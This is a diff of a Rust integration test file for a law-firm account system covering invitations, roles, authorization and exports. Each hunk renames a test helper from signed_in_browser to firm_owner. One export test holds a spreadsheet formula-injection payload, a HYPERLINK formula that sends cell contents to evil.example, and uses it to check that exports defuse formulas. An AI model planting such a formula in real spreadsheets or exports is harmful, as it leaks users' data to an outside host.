@@ -100,8 +100,8 @@ async fn firm_of(app: &TestApp, email: &str) -> String {
 /// from any firm, used to take a new person in at sign-in. Only the opened link counts now.
 async fn an_invitation_joins_only_the_firm_whose_link_was_opened(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner_a = app.signed_in_browser("owner@a-firm.se").await;
-    let owner_b = app.signed_in_browser("owner@b-firm.se").await;
+    let owner_a = app.firm_owner("owner@a-firm.se").await;
+    let owner_b = app.firm_owner("owner@b-firm.se").await;
     let (firm_a, firm_b) = (
         firm_of(&app, "owner@a-firm.se").await,
         firm_of(&app, "owner@b-firm.se").await,
@@ -185,7 +185,7 @@ on_both_backends!(an_invitation_joins_only_the_firm_whose_link_was_opened);
 
 async fn an_invited_colleague_joins_logs_and_shows_in_the_overview(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
     let me: Value = carl.whoami().await;
     assert_eq!(me["role"], "member");
@@ -256,7 +256,7 @@ on_both_backends!(an_invited_colleague_joins_logs_and_shows_in_the_overview);
 
 async fn roles_blocking_and_the_last_owner(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let admin = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
     let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
     let carl_id = user_id(&app, "carl@firm.se").await;
@@ -363,7 +363,7 @@ on_both_backends!(roles_blocking_and_the_last_owner);
 
 async fn settings_are_validated_and_can_require_a_second_factor(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let form = |org: &'static str, require: Option<&'static str>| {
         let mut f = vec![
             ("name", "Berg & Co Advokatbyrå"),
@@ -628,12 +628,12 @@ fn denied(needs: Needs, actor: Actor) -> bool {
 
 async fn the_authorization_matrix(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let admin = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
     let member = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
     let blocked = invite_and_join(&app, &owner, "bert@firm.se", "member").await;
     let _dora = invite_and_join(&app, &owner, "dora@firm.se", "member").await;
-    let other = app.signed_in_browser("boss@other.se").await;
+    let other = app.firm_owner("boss@other.se").await;
     let _ = invite_and_join(&app, &other, "otto@other.se", "admin").await;
     let other_admin = app.signed_in_browser("otto@other.se").await;
     let dora = user_id(&app, "dora@firm.se").await;
@@ -831,7 +831,7 @@ on_both_backends!(the_authorization_matrix);
 /// defuses every cell.
 async fn firm_exports_defuse_formulas_in_every_cell(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let carl = invite_and_join(&app, &owner, "carl@firm.se", "member").await;
     let evil = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Open\")";
     let saved = carl
@@ -876,7 +876,7 @@ on_both_backends!(firm_exports_defuse_formulas_in_every_cell);
 /// stops bringing people in, and two owners demoting each other at once leave an owner.
 async fn owners_admins_and_their_invitations_stay_consistent(backend: Backend) {
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let ada = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
     let ada_id = user_id(&app, "ada@firm.se").await;
     let link = invite(&app, &ada, "newcomer@firm.se", "member").await;
@@ -960,7 +960,7 @@ on_both_backends!(owners_admins_and_their_invitations_stay_consistent);
 async fn invitations_do_not_outlive_their_senders_rights(backend: Backend) {
     use app::backend::auth::rate_limit;
     let app = TestApp::spawn(backend).await;
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     let ada = invite_and_join(&app, &owner, "ada@firm.se", "admin").await;
     let ada_id = user_id(&app, "ada@firm.se").await;
     let firm = firm_of(&app, "ada@firm.se").await;
@@ -1046,7 +1046,7 @@ async fn invitations_do_not_outlive_their_senders_rights(backend: Backend) {
         .execute(&app.db().pool)
         .await
         .expect("a second owner");
-    let owner = app.signed_in_browser("owner@firm.se").await;
+    let owner = app.firm_owner("owner@firm.se").await;
     assert!(
         owner
             .form(
